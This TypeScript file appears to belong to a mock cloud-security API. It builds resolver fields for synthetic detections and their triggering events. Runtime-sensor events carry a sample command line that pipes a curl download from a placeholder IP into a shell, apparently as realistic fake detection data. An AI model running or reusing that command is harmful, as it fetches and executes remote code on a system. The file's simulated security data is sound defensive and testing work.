import { severityNames } from "../tenant/codes.ts";
import { mix, uuid } from "../tenant/hash.ts";
import { formatMicros } from "../tenant/micros.ts";
import { detectionType, issueOfDetection } from "../tenant/tenant.ts";
import { isVanished } from "../tenant/vanish.ts";
import { actorOf } from "./actor.ts";
import type { AssetRow } from "./asset-row.ts";
import { type DetectionRow, IssueRow } from "./finding-rows.ts";
import type { Fields } from "./resolver.ts";

function descriptionOf(row: DetectionRow): string {
  const { facts } = row.asset;
  const mention =
    row.index % 4 === 0 ? `:cloud-resource[${facts.name}]{resourceId="${facts.id}"}` : `\`${facts.name}\``;
  return `${row.rule.description}\n\nResource: ${mention}`;
}

function eventOf(row: DetectionRow): object {
  const at = row.startedAt;
  const { rule, asset } = row;
  return {
    __typename: "CloudEvent",
    id: uuid(row.tenant.keys.threat, row.index + 900_000),
    actor: actorOf(row),
    actorIP: `198.51.100.${1 + (mix(row.tenant.keys.threat, row.index, 77) % 254)}`,
    category: "Detection",
    cloudPlatform: asset.facts.cloudPlatform,
    cloudProviderUrl: asset.facts.url,
    commandLine: rule.origins[0] === "WIZ_SENSOR" ? "/bin/sh -c 'curl -s http://203.0.113.99/x | sh'" : null,
    description: rule.description,
    errorCode: null,
    errorMessage: null,
    externalName: rule.name,
    isForeignActorIP: true,
    kind: rule.origins[0] === "WIZ_SENSOR" ? "WORKLOAD_RUNTIME" : "CLOUD_AUDIT_LOG",
    name: rule.name,
    origin: rule.origins[0],
    path: [],
    rawAuditLogRecord: {},
    resources: [asset],
    source: "wiz",
    status: "SUCCESS",
    subjectResource: asset,
    timestamp: formatMicros(at),
  };
}

export const detectionFields: Fields<DetectionRow> = {
  id: (row) => row.id,
  type: (row) => detectionType(row.index),
  severity: (row) => severityNames[row.table.severity[row.index]!],
  description: (row, args) =>
    args.format === "PLAIN_TEXT"
      ? descriptionOf(row).replace(/:cloud-resource\[([^\]]*)\]\{[^}]*\}/g, "$1")
      : descriptionOf(row),
  createdAt: (row) => formatMicros(row.table.created[row.index]!),
  updatedAt: (row) => formatMicros(row.table.updated[row.index]!),
  startedAt: (row) => formatMicros(row.startedAt),
  endedAt: (row) => formatMicros(row.table.seen[row.index]!),
  origins: (row) => row.rule.origins,
  ruleMatch: (row) => ({ rule: row.rule }),
  primaryResource: (row) => row.asset,
  resources: (row) => [row.asset],
  primaryActor: (row) => actorOf(row),
  actors: (row) => [actorOf(row)],
  cloudAccounts: (row) => {
    const account = row.asset.facts.account;
    return account === null ? [] : [account];
  },
  cloudOrganizations: () => null,
  issue: (row) => {
    const issue = issueOfDetection(row.tenant, row.index);
    const isThere = issue >= 0 && issue < row.tenant.findings.issue.size && !isVanished(row.tenant, "issue", issue);
    return isThere ? new IssueRow(row.tenant, issue) : null;
  },
  triggeringEvents: (row, args) => ({ nodes: args.first === 0 ? [] : [eventOf(row)], totalCount: 1, totalCountV2: 1 }),
};

const nobody = () => null;

/** `CloudEventResource`, whose source is an asset. */
export const eventResourceFields: Fields<AssetRow> = {
  id: (row) => row.facts.id,
  name: (row) => row.facts.name,
  type: (row) => row.facts.type,
  nativeType: (row) => row.facts.nativeType,
  externalId: (row) => row.facts.externalId,
  providerUniqueId: (row) => row.facts.providerUniqueId,
  region: (row) => row.facts.region,
  cloudAccount: (row) => row.facts.account,
  graphEntity: (row) => (row.isDeleted ? null : row),
  containerServiceGraphEntity: nobody,
  kubernetesClusterGraphEntity: nobody,
  kubernetesControllerGraphEntity: nobody,
  kubernetesNamespaceGraphEntity: nobody,
  openToAllInternet: (row) => row.facts.isWide,
};
